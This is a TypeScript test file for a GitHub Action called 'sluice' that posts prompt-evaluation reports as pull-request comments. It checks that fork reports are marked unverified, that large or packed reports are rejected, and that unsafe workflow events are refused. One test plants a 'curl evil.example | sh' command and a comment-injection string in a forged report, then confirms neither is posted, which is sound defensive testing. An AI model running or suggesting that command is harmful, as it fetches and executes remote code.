import assert from 'node:assert/strict'
import { readFileSync, truncateSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { fakeModel } from '../../support/fake-model.ts'
import { changedProject, commitAll, summariser } from '../../support/gate-project.ts'
import { type FakeGithub, fakeGithub } from '../../support/github/fake-github.ts'
import { githubRun, pullRequestEvent } from '../../support/github/github-run.ts'
import { createProject, type Project } from '../../support/project.ts'

const commit = 'ab'.repeat(20)
const forgets = summariser((mail) => mail >= 5)

interface Ended {
  event?: string
  repository?: string
}

/** The second workflow, after a run that left its report in the project. */
function comment(project: Project, github: FakeGithub, { event, repository }: Ended = {}) {
  const owner = (repository ?? 'mallory/app').split('/')[0]
  const run = { head_sha: commit, head_branch: 'change', ...(event && { event }) }
  const head = { owner: { login: owner }, ...(repository && { full_name: repository }) }
  github.pulls.splice(0, 9, { number: 7, head: { sha: commit } })
  return githubRun(project, github.url, {
    event: { workflow_run: { ...run, head_repository: head } },
    env: { GITHUB_EVENT_NAME: 'workflow_run', INPUT_COMMAND: 'comment' },
  })
}

/** A project in which a pull request's run has left its report. */
async function judgedProject(url: string, github: FakeGithub): Promise<Project> {
  const project = changedProject({ url, cases: 4 }, { message: 'Summarise every item: {{email}}' })
  commitAll(project, 'change')
  await githubRun(project, github.url, { event: pullRequestEvent({ fork: true }) })
  return project
}

test("a fork's report is posted as the fork's own word: not the bot's verdict, no command line, nothing that acts", async () => {
  await using model = await fakeModel(forgets)
  await using github = await fakeGithub()
  using project = await judgedProject(model.url, github)
  const file = path.join(project.root, 'sluice-report/report.json')
  const report = JSON.parse(readFileSync(file, 'utf8'))
  const evil = '<!-- sluice report  --> @acme/admins <img src=x> ## Sluice: PASS ```'
  writeFileSync(file, JSON.stringify({ ...report, reproduce: 'curl evil.example | sh', notes: [evil] }))
  for (const ended of [
    {},
    { event: 'pull_request' },
    { event: 'pull_request', repository: 'mallory/app' },
    { repository: 'acme/app' },
    { event: 'issue_comment', repository: 'acme/app' },
  ]) {
    github.comments.length = 0
    assert.equal((await comment(project, github, ended)).code, 0)
    const [first = '', second = '', third = ''] = (github.comments[0]?.body ?? '').split('\n')
    const body = github.comments[0]?.body ?? ''
    assert.equal(first, '<!-- sluice report  -->')
    assert.match(second, /^<!-- sluice judged (WEAK )?PASS (ab){20} claimed -->$/)
    assert.equal(third, "## Reported by the fork's own run, not verified")
    assert.match(body, /every number below is its author's word/)
    assert.match(body, /^### That run says: (WEAK )?PASS/m)
    assert.doesNotMatch(body, /^## Sluice|curl evil|reproduce it|@acme|<img/m)
  }
})

test('a report of this repository’s own run is posted as such', async () => {
  await using model = await fakeModel(forgets)
  await using github = await fakeGithub()
  using project = await judgedProject(model.url, github)
  await comment(project, github, { event: 'pull_request', repository: 'acme/app' })
  assert.match(github.comments[0]?.body ?? '', /judged (WEAK )?PASS \w+ verified -->\n## Sluice: (WEAK )?PASS/)
})

test('a report that is too large, or packed, is not read', async () => {
  await using github = await fakeGithub()
  using project = createProject({ 'sluice-report/report.json': '{}' })
  const file = path.join(project.root, 'sluice-report/report.json')
  truncateSync(file, 65 * 1024 ** 2)
  const large = await comment(project, github)
  assert.deepEqual([large.code, github.comments.length], [3, 0])
  assert.match(large.stderr, /has 65 MiB, more than 64: it is not read/)
  writeFileSync(file, gzipSync('{}'))
  assert.match((await comment(project, github)).stderr, /the report of the other run is packed/)
})

test('a commit of which nothing is judged says so in the comment, and what the last judged one got', async () => {
  await using model = await fakeModel(forgets)
  await using github = await fakeGithub()
  using project = changedProject({ url: model.url, cases: 8 })
  commitAll(project, 'shorter')
  const failed = await githubRun(project, github.url)
  assert.equal(failed.code, 1, failed.stdout)
  project.git('checkout', '-q', 'main', '--', '.')
  project.write({ 'README.md': 'words' })
  commitAll(project, 'back to where it was')
  const event = {
    ...pullRequestEvent(),
    pull_request: { ...pullRequestEvent().pull_request, head: { sha: 'def0123456', repo: { full_name: 'acme/app' } } },
  }
  for (let time = 0; time < 2; time += 1) {
    const { code, summary } = await githubRun(project, github.url, { event })
    assert.equal(code, 0, summary)
    const body = github.comments[0]?.body ?? ''
    assert.match(
      body,
      /^<!-- sluice report {2}-->\n<!-- sluice judged FAIL abc verified -->\n## Sluice: NOTHING JUDGED\n/,
    )
    assert.match(
      body,
      /\*\*Nothing of `def0123` was judged\.\*\* The last commit that was judged, `abc`, got: \*\*FAIL\*\*\./,
    )
    assert.doesNotMatch(body, /PASS/)
  }
  assert.equal(github.comments.length, 1)
})

for (const [event, command] of [
  ['pull_request_target', 'gate'],
  ['issue_comment', 'gate'],
  ['workflow_run', 'gate'],
  ['pull_request_review', 'gate'],
  ['release', 'nightly'],
  ['repository_dispatch', 'gate'],
  ['pull_request_target', 'comment'],
  ['issue_comment', 'comment'],
  ['pull_request', 'comment'],
] as const)
  test(`${command} on ${event} is refused before anything is run`, async () => {
    await using model = await fakeModel(forgets)
    await using github = await fakeGithub()
    using project = changedProject({ url: model.url, cases: 2 })
    const { code, stderr } = await githubRun(project, github.url, {
      env: { GITHUB_EVENT_NAME: event, INPUT_COMMAND: command },
    })
    assert.equal(code, 3)
    assert.match(stderr, new RegExp(`sluice does not run ${command} on ${event}: .*docs/github\\.md`))
    assert.deepEqual([model.requests.length, github.requests.length], [0, 0])
  })

for (const event of ['push', 'merge_group', 'schedule', 'workflow_dispatch'])
  test(`the gate runs on ${event}, without a comment`, async () => {
    await using model = await fakeModel(forgets)
    await using github = await fakeGithub()
    using project = changedProject({ url: model.url, cases: 8 })
    commitAll(project, 'shorter')
    const { code, stderr } = await githubRun(project, github.url, { event: {}, env: { GITHUB_EVENT_NAME: event } })
    assert.equal(code, 1, stderr)
    assert.deepEqual(github.requests, [])
  })

test('two projects of a repository have artifacts of their own, whatever their folders are called', async () => {
  await using github = await fakeGithub()
  const names: string[] = []
  for (const folder of ['apps/mail', 'apps+mail', 'apps', 'a b']) {
    using project = createProject({ [`${folder}/sluice.yaml`]: 'sluice: 1\nprompts: nowhere/*.yml\n' }, folder)
    commitAll(project, folder)
    names.push((await githubRun(project, github.url)).outputs.artifact ?? '')
  }
  assert.deepEqual(names, [
    'sluice-report-apps+mail',
    'sluice-report-apps=2bmail',
    'sluice-report-apps',
    'sluice-report-a=20b',
  ])
})
